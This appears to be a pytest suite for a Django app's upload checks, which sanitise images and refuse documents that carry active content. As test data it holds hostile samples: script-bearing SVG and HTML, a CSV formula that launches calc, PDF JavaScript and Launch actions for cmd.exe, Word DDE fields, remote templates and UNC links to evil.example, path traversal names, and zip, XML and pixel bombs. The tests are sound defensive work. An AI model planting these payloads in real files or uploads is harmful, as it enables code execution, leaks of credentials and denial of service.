import io
import zipfile
import zlib

import pytest
from django.test import override_settings
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from practices.submissions.files import packages
from practices.submissions.files.uploads import (
    LARGEST_DOCUMENT,
    LARGEST_IMAGE,
    UploadRefused,
    VirusFound,
    check_document,
    check_image,
    clean_name,
)
from tests.factories.uploads import docx, odt, packed, pdf, picture, repacked, upload

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def code_of(check, content, name="file.bin"):
    with pytest.raises(UploadRefused) as refusal:
        check(upload(content, name))
    assert refusal.value.message
    return refusal.value.code


def read(file) -> Image.Image:
    return Image.open(io.BytesIO(file.read()))


# both


@pytest.mark.parametrize("check", [check_image, check_document])
def test_nothing_chosen_and_an_empty_file_are_told_apart(check):
    with pytest.raises(UploadRefused) as refusal:
        check(None)
    assert refusal.value.code == "missing"
    assert code_of(check, b"") == "empty"


@pytest.mark.parametrize(("check", "limit"), [(check_image, LARGEST_IMAGE), (check_document, LARGEST_DOCUMENT)])
def test_a_file_above_the_limit_is_too_big_whatever_it_is(check, limit):
    assert code_of(check, b"a" * (limit + 1)) == "too_big"


@pytest.mark.parametrize("check", [check_image, check_document])
def test_a_name_above_120_characters_is_refused(check):
    assert code_of(check, b"text", "a" * 121) == "name_too_long"


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        (r"C:\Users\ana\By-law.pdf", "By-law.pdf"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("a\x00\r\nb.txt", "ab.txt"),
        ("  two   words .txt ", "two words .txt"),
        ("", "file"),
        ("..", "file"),
    ],
)
def test_names_lose_folders_and_what_nobody_sees(sent, kept):
    assert clean_name(sent) == kept


@given(st.text(max_size=120))
def test_a_cleaned_name_is_never_a_path_and_never_empty(name):
    cleaned = clean_name(name)
    assert cleaned
    assert not set(cleaned) & set("/\\\n\r\x00")
    assert cleaned not in {".", ".."}


# images


@pytest.mark.parametrize(
    ("image_format", "written"),
    [("JPEG", "JPEG"), ("PNG", "PNG"), ("WEBP", "WEBP"), ("AVIF", "AVIF"), ("GIF", "PNG")],
)
def test_a_picture_keeps_its_format_and_a_gif_becomes_png(image_format, written):
    made = check_image(upload(picture(image_format), "street.JPEG"))
    assert made.name.startswith("street.")
    assert read(made).format == written


def test_of_an_animation_the_first_frame_stays():
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    sent = io.BytesIO()
    frames[0].save(sent, "GIF", save_all=True, append_images=frames[1:])
    made = read(check_image(upload(sent.getvalue())))
    assert getattr(made, "n_frames", 1) == 1
    assert made.convert("RGB").getpixel((0, 0)) == (255, 0, 0)


@pytest.mark.parametrize(
    "content", [SVG, HTML, packed({"a.txt": "x"}), b"%PDF-1.7", b"GIF8", picture("BMP"), picture("TIFF")]
)
def test_what_is_no_picture_is_refused_whatever_its_name(content):
    assert code_of(check_image, content, "street.jpg") == "wrong_kind"


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
def test_a_picture_that_is_cut_off_is_broken(image_format):
    whole = picture(image_format, size=(300, 300))
    assert code_of(check_image, whole[: len(whole) * 2 // 3]) == "broken"


def test_too_many_pixels_are_refused_before_they_are_unpacked():
    bomb = bytearray(picture("PNG", size=(10, 10)))
    bomb[16:24] = (20_000).to_bytes(4, "big") * 2
    bomb[29:33] = zlib.crc32(bomb[12:29]).to_bytes(4, "big")
    assert code_of(check_image, bytes(bomb)) == "too_many_pixels"


def test_sides_are_limited_and_the_shape_is_kept():
    assert read(check_image(upload(picture("JPEG", size=(6000, 3000))))).size == (4000, 2000)


def with_everything() -> bytes:
    """A JPEG with a position, a description, XMP and a comment, lying on its side."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = 6, "SECRET description"
    exif.get_ifd(0x8825)[2] = (48.0, 51.0, 29.0)
    return picture("JPEG", exif=exif, comment=b"SECRET comment", xmp=b"<x:xmpmeta>SECRET xmp</x:xmpmeta>")


def test_positions_and_all_other_metadata_are_gone():
    sent = with_everything()
    assert sent.count(b"SECRET") == 3
    made = check_image(upload(sent)).read()
    assert b"SECRET" not in made
    image = Image.open(io.BytesIO(made))
    assert not image.getexif()
    assert not {"exif", "xmp", "comment"} & image.info.keys()


def test_a_picture_is_turned_as_the_camera_meant_it():
    assert read(check_image(upload(with_everything()))).size == (30, 40)


@pytest.mark.parametrize("image_format", ["PNG", "WEBP"])
def test_texts_inside_other_formats_are_gone_too(image_format):
    exif = Image.Exif()
    exif[0x010E] = "SECRET"
    assert b"SECRET" not in check_image(upload(picture(image_format, exif=exif))).read()


def test_what_follows_a_picture_in_its_file_is_gone():
    assert b"<script>" not in check_image(upload(picture("JPEG") + HTML)).read()


def test_transparency_and_depth_survive():
    clear = read(check_image(upload(picture("PNG", mode="RGBA"))))
    assert clear.getpixel((0, 0)) == (0, 0, 0, 0)
    deep = Image.new("I;16", (4, 4), 32_768)
    sent = io.BytesIO()
    deep.save(sent, "PNG")
    assert read(check_image(upload(sent.getvalue()))).getpixel((0, 0)) in {127, 128}


def test_print_colours_become_screen_colours():
    assert read(check_image(upload(picture("JPEG", mode="CMYK")))).mode == "RGB"


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400), st.sampled_from(["JPEG", "PNG", "GIF", "WEBP"]), st.integers(0, 300))
def test_damage_is_refused_and_never_an_error_of_the_program(noise, image_format, place):
    whole = picture(image_format)
    damaged = whole[:place] + noise + whole[place + len(noise) :]
    try:
        size = read(check_image(upload(damaged))).size
    except UploadRefused:
        return
    assert size > (0, 0)


# documents that are taken


@pytest.mark.parametrize(
    ("content", "name", "kept"),
    [
        (pdf(), "By-law.PDF", "By-law.pdf"),
        (docx("Budget 2024"), "budget", "budget.docx"),
        (docx("Budget 2024"), "budget.pdf", "budget.docx"),
        (odt(), "plan.odt", "plan.odt"),
        (b"a;b\n1;2\n", "table.csv", "table.csv"),
        ("Année: 2024".encode("cp1252"), "note.doc", "note.txt"),
        ("Año\n".encode("utf-16"), "note", "note.txt"),
    ],
)
def test_a_document_gets_the_extension_of_what_it_is(content, name, kept):
    made = check_document(upload(content, name))
    assert made.name == kept
    assert made.read() == content


def test_links_that_people_click_are_no_active_content():
    def with_link(writer):
        writer.add_uri(0, "https://city.example/", (0, 0, 50, 50))
        writer.open_destination = None
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    assert check_document(upload(pdf(with_link))).name.endswith(".pdf")
    assert check_document(upload(with_relation("hyperlink", "https://city.example/"))).name.endswith(".docx")


# documents that are not


@pytest.mark.parametrize(
    "content",
    [
        SVG,
        HTML,
        b"\xef\xbb\xbf" + SVG,
        HTML.decode().encode("utf-16"),
        picture(),
        b"MZ\x90\x00\x03",
        packed({"a.txt": "x"}),
        b"Rar!\x1a\x07\x00",
    ],
)
def test_what_is_no_document_is_refused_whatever_its_name(content):
    assert code_of(check_document, content, "report.pdf") == "wrong_kind"


def test_old_office_files_are_the_wrong_kind_and_locked_new_ones_have_a_password():
    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    assert code_of(check_document, container, "old.doc") == "wrong_kind"
    assert code_of(check_document, container + "EncryptedPackage".encode("utf-16-le"), "new.docx") == "password"


def test_a_table_cell_that_starts_a_program_is_active_content():
    assert code_of(check_document, b"name,sum\n=cmd|'/C calc'!A0,1\n", "a.csv") == "active_content"
    assert check_document(upload(b"a,b\n=SUM(A1:A2),-5 %\n", "a.csv")).name == "a.csv"


def action(kind: str, **parts):
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in parts.items()}})


SCRIPT = action("/JavaScript", JS=TextStringObject("app.alert(1)"))


def opening(made):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(made)

    return change


@pytest.mark.parametrize(
    "change",
    [
        lambda writer: writer.pages[0].update({NameObject("/AA"): DictionaryObject({NameObject("/O"): SCRIPT})}),
        lambda writer: writer.add_attachment("a.exe", b"MZ"),
        opening(SCRIPT),
        opening(action("/Launch", F=TextStringObject("cmd.exe"))),
        opening(action("/URI", URI=TextStringObject("https://evil.example/"))),
        opening(action("/RichMedia")),
    ],
    ids=["script", "attachment", "script on opening", "program", "address on opening", "rich media"],
)
def test_a_pdf_that_runs_or_carries_something_is_active_content(change):
    assert code_of(check_document, pdf(change)) == "active_content"


def test_escaped_names_do_not_hide_a_script():
    plain = pdf(opening(SCRIPT))
    assert code_of(check_document, plain.replace(b"/JavaScript", b"/J#61vaScript")) == "active_content"


def with_object_stream(text: bytes, about: bytes = b"/Filter /FlateDecode", body=zlib.compress) -> bytes:
    stream = body(text)
    hidden = b"90 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d %s >>\nstream\n%s\nendstream\nendobj\n"
    return pdf().replace(b"startxref", hidden % (len(stream), about, stream) + b"startxref")


def test_a_script_in_a_compressed_object_stream_is_found():
    assert check_document(upload(with_object_stream(b"1 0 << /S /GoTo >>"))).name.endswith(".pdf")
    assert code_of(check_document, with_object_stream(b"1 0 << /S /JavaScript /JS (x) >>")) == "active_content"


def test_an_object_stream_that_cannot_be_read_is_not_called_harmless():
    hidden = b"1 0 << /S /JavaScript >>"
    odd = with_object_stream(hidden, b"/Filter /ASCIIHexDecode", lambda text: text.hex().encode())
    assert code_of(check_document, odd) == "active_content"
    assert code_of(check_document, with_object_stream(hidden, body=lambda text: zlib.compress(text)[:-6])) == "broken"


def test_an_object_stream_that_unpacks_to_far_too_much_is_refused():
    assert code_of(check_document, with_object_stream(bytes(110 * 1024 * 1024))) == "unpacks_too_big"


def test_a_pdf_with_a_password_is_refused():
    assert code_of(check_document, pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))) == "password"


@pytest.mark.parametrize("content", [pdf()[:300], b"%PDF-1.7\nnonsense\n%%EOF", pdf(pages=0)])
def test_a_pdf_that_is_cut_off_or_has_no_page_is_broken(content):
    assert code_of(check_document, content) == "broken"


def with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    link = f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return repacked(
        docx("x"), {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{space}">{link}</Relationships>'}
    )


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FIELD = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DDE", "AUTO c:\\cmd"))
DDE = f'<w:ftr xmlns:w="{WORD}"><w:p>{FIELD}</w:p></w:ftr>'


@pytest.mark.parametrize(
    "content",
    [
        repacked(docx("x"), {"word/vbaProject.bin": b"macro"}),
        repacked(docx("x"), {"word/activeX/activeX1.xml": b"<a/>"}),
        repacked(docx("x"), {"word/embeddings/oleObject1.bin": b"ole"}),
        repacked(docx("x"), {"word/embeddings/table.xlsx": repacked(docx("x"), {"word/vbaProject.bin": b"macro"})}),
        repacked(docx("x"), {"word/footer9.xml": DDE}),
        with_relation("attachedTemplate", "https://evil.example/t.dotm"),
        with_relation("image", r"file://\\evil.example\a.png"),
        with_relation("hyperlink", "javascript:alert(1)"),
        odt(**{"Basic/Standard/Module1.xml": "<a/>"}),
        odt(**{"Scripts/python/a.py": "print()"}),
        odt('<s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'),
        odt('<d:image xmlns:d="urn:d" xmlns:x="http://www.w3.org/1999/xlink" x:href="https://evil.example/a"/>'),
    ],
    ids="macro activeX ole nested dde template picture-outside link-script basic python listener odf-outside".split(),
)
def test_an_office_file_that_runs_or_fetches_something_is_active_content(content):
    assert code_of(check_document, content) == "active_content"


def test_a_macro_document_under_another_name_is_active_content():
    with zipfile.ZipFile(io.BytesIO(docx("x"))) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert code_of(check_document, repacked(docx("x"), {"[Content_Types].xml": types}), "a.docx") == "active_content"


def test_the_table_behind_a_chart_is_no_active_content():
    made = repacked(docx("x"), {"word/embeddings/table.docx": docx("inner")})
    assert check_document(upload(made)).name.endswith(".docx")


def test_entities_in_office_files_are_refused():
    bomb = f'<!DOCTYPE a [<!ENTITY b "bbbb">]><w:hdr xmlns:w="{WORD}">&b;</w:hdr>'
    assert code_of(check_document, repacked(docx("x"), {"word/header9.xml": bomb})) == "active_content"


def test_an_office_file_with_a_password_is_refused():
    locked = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    assert code_of(check_document, odt(manifest=locked)) == "password"


def test_a_zip_bomb_is_not_unpacked():
    assert (
        code_of(check_document, repacked(docx("x"), {"word/media/a.bin": bytes(40 * 1024 * 1024)})) == "unpacks_too_big"
    )
    many = {f"word/{n}": b"" for n in range(packages.MOST_MEMBERS + 1)}
    assert code_of(check_document, repacked(docx("x"), many)) == "unpacks_too_big"


@pytest.mark.parametrize("name", ["../../etc/cron.d/a", "/etc/a", "word\\..\\a", "WORD/Document.xml"])
def test_an_office_file_with_misleading_names_inside_is_broken(name):
    assert code_of(check_document, repacked(docx("x"), {name: b"x"})) == "broken"


def test_an_office_file_that_is_cut_off_or_damaged_is_broken():
    whole = docx("x" * 5000)
    assert code_of(check_document, whole[: len(whole) // 2]) == "broken"
    place = whole.index(b"word/document.xml") + 60
    assert code_of(check_document, whole[:place] + b"\x00\xff\x00\xff" + whole[place + 4 :]) == "broken"


# scanner


def find_eicar(content: bytes, name: str) -> None:
    if EICAR in content:
        raise VirusFound(name)


def scanner_that_is_down(content: bytes, name: str) -> None:
    raise ConnectionRefusedError


@pytest.mark.parametrize("check", [check_image, check_document])
def test_what_the_scanner_finds_is_refused(check):
    with override_settings(UPLOAD_SCANNER=f"{__name__}.find_eicar"):
        assert code_of(check, EICAR, "a.txt") == "virus"


def test_a_harmless_file_passes_the_scanner():
    with override_settings(UPLOAD_SCANNER=f"{__name__}.find_eicar"):
        assert check_document(upload(b"harmless", "a.txt")).name == "a.txt"


def test_nothing_is_taken_while_the_scanner_is_down():
    with override_settings(UPLOAD_SCANNER=f"{__name__}.scanner_that_is_down"):
        assert code_of(check_document, b"harmless", "a.txt") == "not_checked"
